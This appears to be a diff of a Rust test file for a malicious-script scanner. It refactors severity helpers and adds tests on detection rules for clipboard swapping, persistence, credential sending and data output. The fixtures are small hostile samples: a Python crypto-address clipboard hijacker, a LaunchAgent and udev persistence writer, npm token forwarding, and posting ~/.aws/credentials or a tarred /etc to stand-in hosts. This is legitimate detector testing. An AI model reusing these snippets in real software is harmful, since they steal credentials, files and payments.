@@ -6,7 +6,14 @@ use super::{command, outcome, rules};
 use crate::analyze::script::How;
 use crate::analyze::script::event::{Act, When};
 use crate::model::{FileKind, Severity};
-use crate::parse::script::Language::{JavaScript, Php, Python};
+use crate::parse::script::Language::{self, JavaScript, Php, Python, Shell};
+
+/// How bad a rule is for a script; `None` where it does not fire.
+fn severity(language: Language, code: &str, rule: &str) -> Option<Severity> {
+    let outcome = outcome(language, code);
+    let flows = crate::analyze::script::flows::judge(&outcome, false);
+    flows.iter().filter(|f| f.rule.id == rule).map(|f| f.severity.unwrap_or(f.rule.severity)).max()
+}
 
 #[test]
 fn fields_of_records_are_made_for_each_and_listed_by_their_names() {
@@ -125,21 +132,18 @@ fn addresses_in_a_clipboard_that_is_watched_are_exchanged_for_its_own() {
                 def get():\n    return ctypes.c_wchar_p(k.GlobalLock(u.GetClipboardData(13))).value\n\
                 def put(text):\n    h = k.GlobalAlloc(66, len(text))\n    u.SetClipboardData(13, h)\n\
                 while True:\n    for rx, mine in RULES:\n        if rx.match(get()):\n            put(mine)\n    time.sleep(1)\n";
-    assert!(worst(code) > Some(crate::model::Severity::Low), "{:?}", worst(code));
+    assert!(
+        severity(Python, code, "flow-clipboard-swap") > Some(Severity::Low),
+        "{:?}",
+        severity(Python, code, "flow-clipboard-swap")
+    );
     // One that is set once, and one that knows nobody's addresses.
     let once = code.replace("while True:", "if True:").replace("time.sleep(1)", "pass");
-    assert_eq!(worst(&once), Some(crate::model::Severity::Low));
+    assert_eq!(severity(Python, &once, "flow-clipboard-swap"), Some(Severity::Low));
     assert_eq!(
-        worst(&code.replace("bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz", "mine")),
-        Some(crate::model::Severity::Low)
+        severity(Python, &code.replace("bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz", "mine"), "flow-clipboard-swap"),
+        Some(Severity::Low)
     );
-}
-
-/// How bad the exchange of a clipboard is.
-fn worst(code: &str) -> Option<crate::model::Severity> {
-    let outcome = outcome(Python, code);
-    let flows = crate::analyze::script::flows::judge(&outcome, false);
-    flows.iter().find(|f| f.rule.id == "flow-clipboard-swap").map(|f| f.severity.unwrap_or(f.rule.severity))
 }
 
 #[test]
@@ -155,15 +159,11 @@ fn services_that_are_set_up_by_name_are_for_people_to_look_at() {
                 exports.install = () => { fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/t.plist'), \
                 '<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><string>' + \
                 path.join(__dirname, '../bin/t.js') + '</string>'); };";
-    let severity = |code: &str| {
-        let outcome = outcome(JavaScript, code);
-        let flows = crate::analyze::script::flows::judge(&outcome, false);
-        flows.iter().find(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(f.rule.severity))
-    };
-    assert_eq!(severity(code), Some(crate::model::Severity::Medium));
+    let severity = |code: &str| severity(JavaScript, code, "flow-persists");
+    assert_eq!(severity(code), Some(Severity::Medium));
     // By another name, or with something odd in it.
-    assert_eq!(severity(&code.replace("exports.install", "exports.format")), Some(crate::model::Severity::High));
-    assert_eq!(severity(&code.replace("'../bin/t.js'", "'../.cache/t.js'")), Some(crate::model::Severity::High));
+    assert_eq!(severity(&code.replace("exports.install", "exports.format")), Some(Severity::High));
+    assert_eq!(severity(&code.replace("'../bin/t.js'", "'../.cache/t.js'")), Some(Severity::High));
 }
 
 #[test]
@@ -172,14 +172,7 @@ fn a_server_of_packages_may_present_a_log_in_to_its_registry() {
                 const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
                 http.createServer(async (req, res) => { const r = await fetch('https://registry.npmjs.org/' + req.url, \
                 { headers: { authorization: token } }); res.end(await r.text()); }).listen(1);";
-    let block = |code: &str| {
-        let outcome = outcome(JavaScript, code);
-        let flows = crate::analyze::script::flows::judge(&outcome, false);
-        flows.iter().any(|f| {
-            f.rule.id == "flow-credentials-sent"
-                && f.severity.unwrap_or(f.rule.severity) >= crate::model::Severity::High
-        })
-    };
+    let block = |code: &str| severity(JavaScript, code, "flow-credentials-sent") >= Some(Severity::High);
     assert!(!block(code));
     assert!(block(&code.replace("registry.npmjs.org", "registry.h.invalid")));
     assert!(block(
@@ -270,24 +263,13 @@ fn a_folder_that_somebody_names_may_be_packed_and_carried_away() {
     let code = "const { execFileSync } = require('child_process');\n\
                 exports.deploy = async (dir) => { const tar = execFileSync('tar', ['czf', '-', '-C', dir, '.']); \
                 await fetch('https://api.h.invalid/v1', { method: 'POST', body: tar }); };";
-    let severity = |code: &str| {
-        let outcome = outcome(JavaScript, code);
-        let flows = crate::analyze::script::flows::judge(&outcome, false);
-        flows.iter().find(|f| f.rule.id == "flow-output-sent").map(|f| f.severity.unwrap_or(f.rule.severity))
-    };
-    assert_eq!(severity(code), Some(crate::model::Severity::Medium));
-    assert_eq!(severity(&code.replace("'-C', dir, '.'", "'/etc'")), Some(crate::model::Severity::High));
+    let severity = |code: &str| severity(JavaScript, code, "flow-output-sent");
+    assert_eq!(severity(code), Some(Severity::Medium));
+    assert_eq!(severity(&code.replace("'-C', dir, '.'", "'/etc'")), Some(Severity::High));
     assert_eq!(
         severity(&code.replace("exports.deploy", "const w = execFileSync('whoami');\nexports.deploy")),
-        Some(crate::model::Severity::High)
+        Some(Severity::High)
     );
-}
-
-/// How bad a rule is for a script; `None` where it does not fire.
-fn severity(language: crate::parse::script::Language, code: &str, rule: &str) -> Option<Severity> {
-    let outcome = outcome(language, code);
-    let flows = crate::analyze::script::flows::judge(&outcome, false);
-    flows.iter().filter(|f| f.rule.id == rule).map(|f| f.severity.unwrap_or(f.rule.severity)).max()
 }
 
 #[test]
@@ -368,4 +350,22 @@ fn what_is_put_into_a_set_is_in_it_and_builtins_are_found_by_their_form() {
                 class Keypair:\n    def __init__(self, sk=None):\n        self._sk = sk or SigningKey.generate()\n        announce(self)\n";
     has(Python, pair, "flow-key-sent");
     has_not(Python, &pair.replace("kp.secret_key", "kp.public_key"), "flow-key-sent");
+}
+
+#[test]
+fn what_may_start_something_and_is_not_known_is_for_people_to_look_at() {
+    let write = |text: &str| format!("printf '%s\\n' {text} > /etc/udev/rules.d/69-h.rules");
+    let of = |text: &str| severity(Shell, &write(text), "flow-persists");
+    assert_eq!(of("'MODE=\"0666\"'"), None);
+    assert_eq!(of("\"$(cat /srv/rules)\""), Some(Severity::Medium));
+    // Behind so much that it is not kept.
+    assert_eq!(of(&format!("'{}RUN+=\"/usr/lib/h\"'", "# comment ".repeat(60))), Some(Severity::Medium));
+    assert_eq!(of("'RUN+=\"/usr/lib/h\"'"), Some(Severity::High));
+}
+
+#[test]
+fn a_variable_that_a_script_sets_is_not_its_user_s() {
+    let code = "import os, requests\nos.environ['MIRROR'] = 'https://h.invalid/x'\ndef go():\n    \
+                requests.post(os.environ['MIRROR'] + '/y', data=open(os.path.expanduser('~/.aws/credentials')).read())\n";
+    assert!(severity(Python, code, "flow-credentials-sent") >= Some(Severity::Medium));
 }
